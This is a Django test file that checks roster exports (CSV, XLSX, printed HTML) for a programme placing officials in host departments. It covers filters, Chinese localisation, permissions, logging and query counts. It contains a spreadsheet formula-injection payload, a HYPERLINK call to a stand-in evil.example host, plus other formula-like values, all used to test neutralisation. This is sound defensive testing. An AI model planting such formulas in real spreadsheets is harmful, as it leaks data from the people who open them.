"""Roster exports read back with csv and openpyxl and compared with the database."""

import csv
import datetime
import io

import pytest
from django.contrib.auth.models import Permission
from django.test import override_settings
from django.urls import reverse
from openpyxl import load_workbook

from exchange.models import City
from participants.models import Participant
from placements.exports import neutralise
from placements.models import Attachment, ExportLog
from tests.factories import (
    AttachmentFactory,
    CityFactory,
    CityQuotaFactory,
    CohortFactory,
    HostDepartmentFactory,
    ParticipantFactory,
    UserFactory,
)

pytestmark = pytest.mark.django_db

FORMULA_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'


@pytest.fixture
def export_coordinator(coordinator):
    """A coordinator who was granted the roster export permission."""
    coordinator.user_permissions.add(Permission.objects.get(codename="export_roster"))
    return coordinator


@pytest.fixture
def roster(db):
    """A cohort of four officials: two attached, one attached twice (one attachment cancelled),
    one not attached; Chinese names, and names that look like formulas."""
    cohort = CohortFactory(name="Winter 2026")
    shenzhen = CityFactory(code="SZ", name_en="Shenzhen", name_zh_hant="深圳", name_zh_hans="深圳")
    beijing = CityFactory(code="BJ", name_en="Beijing", name_zh_hant="北京", name_zh_hans="北京")
    dpo = HostDepartmentFactory(
        abbreviation="DPO", name_en="Digital Policy Office", name_zh_hant="數字政策辦公室"
    )
    td = HostDepartmentFactory(abbreviation="TD", name_en="Transport Department")
    chen = ParticipantFactory(
        cohort=cohort,
        home_city=shenzhen,
        name_en="Chen Minghui",
        name_zh="陈明辉",
        phone="+86 755 1234 5678",
        post_title="Division Director",
    )
    evil = ParticipantFactory(
        cohort=cohort,
        home_city=shenzhen,
        name_en=FORMULA_NAME,
        name_zh="@SUM(A1:A9)",
        home_organisation="-2+3",
        status=Participant.Status.NOMINATED,
    )
    wang = ParticipantFactory(cohort=cohort, home_city=beijing, name_en="Wang Lei", name_zh="王磊")
    first = AttachmentFactory(participant=chen, department=dpo, supervisor="Ms Lee 李女士")
    # A second, later attachment: one row per attachment.
    AttachmentFactory(
        participant=chen,
        department=td,
        start=first.end + datetime.timedelta(days=1),
        end=first.end + datetime.timedelta(days=14),
        status=Attachment.Status.PROPOSED,
    )
    AttachmentFactory(participant=evil, department=td, supervisor="+1")
    AttachmentFactory(participant=wang, department=dpo, status=Attachment.Status.CANCELLED)
    other = ParticipantFactory(home_city=beijing, name_en="Someone Else")  # another cohort
    AttachmentFactory(participant=other, department=dpo)
    return {"cohort": cohort, "shenzhen": shenzhen, "dpo": dpo, "td": td, "people": [chen, evil]}


def expected_rows(cohort, **filters):
    """What the roster must say, computed from the database independently of the exporter."""
    rows = []
    officials = Participant.objects.filter(cohort=cohort, **filters)
    for official in officials:
        live = [a for a in official.attachments.all() if a.status != Attachment.Status.CANCELLED]
        for attachment in live or [None]:
            rows.append(
                {
                    "name_en": official.name_en,
                    "name_zh": official.name_zh,
                    "city": official.home_city.name_en,
                    "department": attachment.department.abbreviation if attachment else None,
                    "start": attachment.start if attachment else None,
                    "end": attachment.end if attachment else None,
                    "email": official.email,
                    "phone": official.phone,
                }
            )
    return sorted(rows, key=lambda r: (r["email"], r["start"] or datetime.date.min))


def download(client, url, **params):
    response = client.get(url, params)
    assert response.status_code == 200, response.content[:500]
    content = b"".join(response.streaming_content)
    return response, content


def read_csv(content: bytes) -> list[dict]:
    assert content.startswith(b"\xef\xbb\xbf"), "UTF-8 byte order mark for Excel"
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))


def read_xlsx(content: bytes):
    workbook = load_workbook(io.BytesIO(content))
    return workbook.worksheets[0]


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("Chen = Minghui", "Chen = Minghui"),
        ("陈明辉", "陈明辉"),
        ("", ""),
        (None, None),
        (datetime.date(2026, 1, 2), datetime.date(2026, 1, 2)),
    ],
)
def test_neutralise(value, expected):
    assert neutralise(value) == expected


def test_csv_roster_matches_the_database(client, admin_user, roster):
    cohort = roster["cohort"]
    client.force_login(admin_user)
    response, content = download(
        client, reverse("placements:roster_download", args=[cohort.pk, "csv"])
    )
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert 'attachment; filename="roster-winter-2026-' in response["Content-Disposition"]
    rows = read_csv(content)
    expected = expected_rows(cohort)
    assert len(rows) == len(expected) == 4
    got = sorted(rows, key=lambda r: (r["Email"], r["Attachment start"]))
    for row, want in zip(got, expected, strict=True):
        assert row["Name (English)"] == neutralise(want["name_en"])
        assert row["Name (Chinese)"] == neutralise(want["name_zh"])
        assert row["Home city"] == want["city"]
        assert row["Attachment start"] == (want["start"].isoformat() if want["start"] else "")
        assert row["Attachment end"] == (want["end"].isoformat() if want["end"] else "")
        assert row["Email"] == want["email"]
        assert row["Phone"] == neutralise(want["phone"])
        if want["department"]:
            assert row["Host department"].endswith(f"({want['department']})")
        else:
            assert row["Host department"] == ""
            assert row["Attachment status"] == "Not attached yet"
    chen, evil = roster["people"]
    by_name = {row["Email"]: row for row in rows if "TD" not in row["Host department"]}
    by_name[evil.email] = next(row for row in rows if row["Email"] == evil.email)
    assert by_name[chen.email]["Name (Chinese)"] == "陈明辉"
    assert by_name[chen.email]["Supervisor"] == "Ms Lee 李女士"
    assert by_name[chen.email]["Host department"] == "Digital Policy Office (DPO)"
    assert by_name[chen.email]["Rank"] == "Division director"
    assert by_name[chen.email]["Status"] == "Confirmed"
    assert by_name[chen.email]["Attachment status"] == "Confirmed"
    # The formula-looking cells come out as text that no spreadsheet will run.
    assert by_name[evil.email]["Name (English)"] == "'" + FORMULA_NAME
    assert by_name[evil.email]["Name (Chinese)"] == "'@SUM(A1:A9)"
    assert by_name[evil.email]["Home organisation"] == "'-2+3"
    assert by_name[evil.email]["Supervisor"] == "'+1"
    assert by_name[chen.email]["Phone"] == "'+86 755 1234 5678"


def test_xlsx_roster_matches_the_database(client, admin_user, roster):
    cohort = roster["cohort"]
    client.force_login(admin_user)
    response, content = download(
        client, reverse("placements:roster_download", args=[cohort.pk, "xlsx"])
    )
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    sheet = read_xlsx(content)
    header = [cell.value for cell in sheet[1]]
    assert header[:3] == ["Name (English)", "Name (Chinese)", "Home city"]
    assert sheet["A1"].font.bold
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == f"A1:N{len(expected_rows(cohort)) + 1}"
    assert sheet.column_dimensions["A"].width >= 20
    # The header row is tall enough for a wrapped label; printed, the sheet fits the page's
    # width (one page wide, as many long as needed) on A4 landscape, the header on every page.
    assert sheet.row_dimensions[1].height >= 30
    assert sheet.sheet_properties.pageSetUpPr.fitToPage
    # fitToWidth is left out when it is 1, its default in the file format.
    assert (sheet.page_setup.fitToWidth or 1, sheet.page_setup.fitToHeight) == (1, 0)
    assert (sheet.page_setup.orientation, sheet.page_setup.paperSize) == ("landscape", 9)
    assert sheet.print_title_rows == "$1:$1"
    rows = [dict(zip(header, [c.value for c in row], strict=True)) for row in sheet.iter_rows(2)]
    expected = expected_rows(cohort)
    got = sorted(rows, key=lambda r: (r["Email"], r["Attachment start"] or datetime.datetime.min))
    assert len(got) == len(expected) == 4
    for row, want in zip(got, expected, strict=True):
        # Text cells as they are: no apostrophe in front of what looks like a formula.
        assert row["Name (English)"] == want["name_en"]
        assert row["Name (Chinese)"] == want["name_zh"]
        assert row["Home city"] == want["city"]
        if want["start"]:
            # Real dates, not text: openpyxl reads them back as datetimes.
            assert row["Attachment start"].date() == want["start"]
            assert row["Attachment end"].date() == want["end"]
        else:
            assert row["Attachment start"] is None
    chen, evil = roster["people"]
    for row_cells in sheet.iter_rows(2):
        if row_cells[12].value == evil.email:
            name = row_cells[0]
            assert name.value == FORMULA_NAME
            assert name.data_type == "s", "a string cell, never a formula"
            assert (row_cells[1].value, row_cells[1].data_type) == ("@SUM(A1:A9)", "s")
            assert (row_cells[3].value, row_cells[3].data_type) == ("-2+3", "s")
            assert (row_cells[9].value, row_cells[9].data_type) == ("+1", "s")
        if row_cells[12].value == chen.email:
            assert row_cells[1].value == "陈明辉"
            assert (row_cells[13].value, row_cells[13].data_type) == ("+86 755 1234 5678", "s")
            assert row_cells[7].is_date
            assert row_cells[7].number_format == "yyyy-mm-dd"


def test_filters_by_city_department_and_status(client, admin_user, roster):
    cohort = roster["cohort"]
    client.force_login(admin_user)
    url = reverse("placements:roster_download", args=[cohort.pk, "csv"])

    _response, content = download(client, url, home_city=roster["shenzhen"].pk)
    chen, evil = roster["people"]
    assert sorted(r["Email"] for r in read_csv(content)) == sorted(
        [chen.email, chen.email, evil.email]
    )

    _response, content = download(client, url, department=roster["dpo"].pk)
    assert [r["Name (English)"] for r in read_csv(content)] == ["Chen Minghui"]

    _response, content = download(client, url, status="nominated")
    assert [r["Name (English)"] for r in read_csv(content)] == ["'" + FORMULA_NAME]

    log = ExportLog.objects.order_by("pk").last()
    assert log.filters == {"status": "nominated"}
    assert log.row_count == 1


def test_chinese_interface_exports_chinese_headers_and_names(client, admin_user, roster):
    client.force_login(admin_user)
    client.cookies["django_language"] = "zh-hant"
    _response, content = download(
        client,
        reverse("placements:roster_download", args=[roster["cohort"].pk, "csv"]),
        department=roster["dpo"].pk,
    )
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    assert rows[1][0] == "Chen Minghui"
    assert rows[1][2] == "深圳"
    assert "數字政策辦公室 (DPO)" in rows[1]


def test_chinese_exports_carry_the_content_in_the_readers_script(client, admin_user, roster):
    """Organisation, post and cohort name in the reader's script; where one script is missing,
    the other stands in before the English (as on the pages)."""
    chen = roster["people"][0]
    Participant.objects.filter(pk=chen.pk).update(
        home_organisation_zh_hant="深圳市商務局",
        home_organisation_zh_hans="深圳市商务局",
        post_title_zh_hans="处长",
    )
    type(roster["cohort"]).objects.filter(pk=roster["cohort"].pk).update(
        name_zh_hant="二〇二六年冬季", name_zh_hans="二〇二六年冬季批次"
    )
    client.force_login(admin_user)
    url = reverse("placements:roster_download_all", args=["csv"])
    client.cookies["django_language"] = "zh-hant"
    rows = read_csv(download(client, url, home_city=roster["shenzhen"].pk)[1])
    chen_row = next(row for row in rows if "Chen Minghui" in row.values())
    assert "深圳市商務局" in chen_row.values()
    assert "处长" in chen_row.values()  # no Traditional post: the Simplified one
    assert "二〇二六年冬季" in chen_row.values()
    client.cookies["django_language"] = "en"
    rows = read_csv(download(client, url, home_city=roster["shenzhen"].pk)[1])
    chen_row = next(row for row in rows if "Chen Minghui" in row.values())
    assert {"Winter 2026", "Division Director"} <= set(chen_row.values())


def test_every_export_is_logged(client, admin_user, roster):
    cohort = roster["cohort"]
    client.force_login(admin_user)
    download(client, reverse("placements:roster_download", args=[cohort.pk, "csv"]))
    download(
        client,
        reverse("placements:roster_download", args=[cohort.pk, "xlsx"]),
        home_city=roster["shenzhen"].pk,
    )
    assert client.get(reverse("placements:roster_print", args=[cohort.pk])).status_code == 200
    download(client, reverse("placements:roster_download_all", args=["csv"]))
    logs = list(ExportLog.objects.order_by("pk"))
    assert [(log.format, log.row_count, log.cohort) for log in logs] == [
        ("csv", 4, cohort),
        ("xlsx", 3, cohort),
        ("html", 4, cohort),
        ("csv", 5, None),
    ]
    assert all(log.user == admin_user for log in logs)
    assert logs[1].filters == {"home_city": "SZ"}

    page = client.get(reverse("placements:exportlog_list"))
    assert page.status_code == 200
    assert page.context["entries"][0] == logs[-1]
    assert "Home city: SZ" in page.content.decode()


def test_all_cohorts_export_has_a_cohort_column(client, admin_user, roster):
    client.force_login(admin_user)
    _response, content = download(client, reverse("placements:roster_download_all", args=["xlsx"]))
    sheet = read_xlsx(content)
    assert sheet["A1"].value == "Cohort"
    cohorts = {row[0].value for row in sheet.iter_rows(2)}
    assert cohorts == set(Participant.objects.values_list("cohort__name", flat=True))


def test_print_roster_has_a_page_per_department(client, admin_user, roster):
    client.force_login(admin_user)
    response = client.get(reverse("placements:roster_print", args=[roster["cohort"].pk]))
    html = response.content.decode()
    sections = response.context["sections"]
    assert [s["department"] for s in sections] == [
        "Digital Policy Office (DPO)",
        "Transport Department (TD)",
        "Not attached yet",
    ]
    assert html.count('class="roster-section"') == 3
    assert "roster-print.css" in html
    assert "陈明辉" in html
    # Escaped like any HTML: no formula prefix needed on paper.
    assert "=HYPERLINK(&quot;http://evil.example" in html
    # A phone number (and a date) stays on one line on paper.
    assert '<td class="text-nowrap">+86 755 1234 5678</td>' in html


def test_coordinator_with_permission_exports(client, export_coordinator, roster):
    client.force_login(export_coordinator)
    cohort = roster["cohort"]
    assert client.get(reverse("placements:roster_export", args=[cohort.pk])).status_code == 200
    _response, content = download(
        client, reverse("placements:roster_download", args=[cohort.pk, "csv"])
    )
    assert len(read_csv(content)) == 4
    assert ExportLog.objects.get().user == export_coordinator
    # The export of every cohort and the export log stay with the admins.
    assert client.get(reverse("placements:roster_export_all")).status_code == 403
    assert client.get(reverse("placements:roster_download_all", args=["csv"])).status_code == 403
    assert client.get(reverse("placements:exportlog_list")).status_code == 403


def export_urls(cohort_pk):
    return [
        reverse("placements:roster_export", args=[cohort_pk]),
        reverse("placements:roster_print", args=[cohort_pk]),
        reverse("placements:roster_download", args=[cohort_pk, "csv"]),
        reverse("placements:roster_download", args=[cohort_pk, "xlsx"]),
        reverse("placements:roster_export_all"),
        reverse("placements:roster_print_all"),
        reverse("placements:roster_download_all", args=["csv"]),
        reverse("placements:roster_download_all", args=["xlsx"]),
        reverse("placements:exportlog_list"),
    ]


@pytest.mark.parametrize("who", ["participant_user", "liaison", "coordinator"])
def test_others_get_403_on_every_export_url(client, request, who, roster):
    user = request.getfixturevalue(who)
    client.force_login(user)
    for url in export_urls(roster["cohort"].pk):
        assert client.get(url).status_code == 403, url
    assert not ExportLog.objects.exists()


def test_liaison_granted_the_permission_still_gets_403(client, liaison, roster):
    liaison.user_permissions.add(Permission.objects.get(codename="export_roster"))
    client.force_login(liaison)
    for url in export_urls(roster["cohort"].pk):
        assert client.get(url).status_code == 403, url


def test_anonymous_is_sent_to_login(client, roster):
    for url in export_urls(roster["cohort"].pk):
        response = client.get(url)
        assert response.status_code == 302
        assert response["Location"].startswith(reverse("login"))


def test_bad_filters_unknown_format_and_cohort(client, admin_user, roster):
    client.force_login(admin_user)
    cohort = roster["cohort"]
    response = client.get(
        reverse("placements:roster_download", args=[cohort.pk, "csv"]), {"department": "999999"}
    )
    assert response.status_code == 400
    assert "Select a valid choice" in response.content.decode()
    assert client.get(f"/cohorts/{cohort.pk}/roster/pdf/").status_code == 404
    assert (
        client.get(reverse("placements:roster_download", args=[999999, "csv"])).status_code == 404
    )
    page = client.get(reverse("placements:roster_export", args=[cohort.pk]), {"status": "nope"})
    assert page.status_code == 200
    assert page.context["row_count"] is None
    assert not ExportLog.objects.exists()


def test_export_page_counts_rows_and_offers_the_formats(client, admin_user, roster):
    client.force_login(admin_user)
    url = reverse("placements:roster_export", args=[roster["cohort"].pk])
    response = client.get(url, {"home_city": roster["shenzhen"].pk})
    html = response.content.decode()
    assert response.context["row_count"] == 3
    assert "Download Excel (XLSX)" in html
    assert "Download CSV" in html
    assert "data-download" in html
    fragment = client.get(url, {"department": roster["dpo"].pk}, headers={"HX-Request": "true"})
    assert fragment.content.decode().strip().startswith('<p id="roster-count"')
    assert fragment.context["row_count"] == 1


def test_download_sets_the_cookie_the_spinner_waits_for(client, admin_user, roster):
    client.force_login(admin_user)
    url = reverse("placements:roster_download", args=[roster["cohort"].pk, "xlsx"])
    response, _content = download(client, url, download_token="abc123XYZ789")
    assert response.cookies["exchange_download"].value == "abc123XYZ789"
    response, _content = download(client, url, download_token="<script>")
    assert "exchange_download" not in response.cookies


def test_the_download_cookie_is_secure_where_the_session_cookie_is(client, admin_user, roster):
    client.force_login(admin_user)
    url = reverse("placements:roster_download", args=[roster["cohort"].pk, "xlsx"])
    response, _content = download(client, url, download_token="abc123XYZ789")
    assert not response.cookies["exchange_download"]["secure"]
    with override_settings(SESSION_COOKIE_SECURE=True):  # as under production settings
        response, _content = download(client, url, download_token="abc123XYZ789")
    cookie = response.cookies["exchange_download"]
    assert cookie["secure"] is True
    assert cookie["samesite"] == "Lax"


def _bulk_roster(n: int):
    """n officials in one cohort, each with one attachment, in a handful of queries."""
    cohort = CohortFactory()
    city = City.objects.get_or_create(code="SZ", defaults={"name_en": "Shenzhen"})[0]
    CityQuotaFactory(cohort=cohort, city=city, seats=n)
    department = HostDepartmentFactory()
    officials = Participant.objects.bulk_create(
        ParticipantFactory.build(cohort=cohort, home_city=city, name_zh=f"官员{i}")
        for i in range(n)
    )
    Attachment.objects.bulk_create(
        AttachmentFactory.build(participant=official, department=department)
        for official in officials
    )
    return cohort, city, department


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_export_query_count_does_not_grow_with_rows(
    client, django_assert_max_num_queries, fmt, export_coordinator
):
    client.force_login(export_coordinator)
    for n in (10, 500):
        cohort, city, department = _bulk_roster(n)
        url = reverse("placements:roster_download", args=[cohort.pk, fmt])
        # 13, and the access log's entry and its links (one bulk insert, whatever n).
        with django_assert_max_num_queries(15):
            response = client.get(url, {"home_city": city.pk, "department": department.pk})
            content = b"".join(response.streaming_content)
        rows = read_csv(content) if fmt == "csv" else list(read_xlsx(content).iter_rows(2))
        assert len(rows) == n


def test_export_page_and_log_query_counts_are_fixed(
    client, django_assert_max_num_queries, admin_user
):
    client.force_login(admin_user)
    for n in (10, 200):
        cohort, _city, _department = _bulk_roster(n)
        with django_assert_max_num_queries(8):
            page = client.get(reverse("placements:roster_export", args=[cohort.pk]))
        assert page.context["row_count"] == n
        # 8, and the access log's entry and its links (one bulk insert, whatever n).
        with django_assert_max_num_queries(10):
            response = client.get(reverse("placements:roster_print", args=[cohort.pk]))
        assert response.context["row_count"] == n
        with django_assert_max_num_queries(8):
            log_page = client.get(reverse("placements:exportlog_list"))
        assert log_page.status_code == 200


def test_export_log_is_read_only_in_the_admin(client, admin_user, roster):
    entry = ExportLog.objects.create(
        user=UserFactory(), cohort=roster["cohort"], format="csv", row_count=3
    )
    client.force_login(admin_user)
    listing = client.get(reverse("admin:placements_exportlog_changelist"))
    assert listing.status_code == 200
    assert client.get(reverse("admin:placements_exportlog_add")).status_code == 403
    detail = client.get(reverse("admin:placements_exportlog_change", args=[entry.pk]))
    assert detail.status_code == 200
    assert (
        client.post(reverse("admin:placements_exportlog_delete", args=[entry.pk])).status_code
        == 403
    )
    assert ExportLog.objects.filter(pk=entry.pk).exists()
